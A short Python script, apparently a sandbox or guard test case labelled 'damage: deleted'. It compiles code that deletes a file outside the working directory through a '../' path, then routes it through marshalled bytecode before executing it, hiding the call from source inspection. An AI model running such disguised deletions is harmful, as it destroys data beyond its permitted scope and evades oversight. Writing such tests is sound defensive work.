# Code travels as marshalled bytes.
# damage: deleted
import marshal

code = compile("import os; os.unlink('../outside/victim.txt')", "<made>", "exec")
exec(marshal.loads(marshal.dumps(code)[:]))
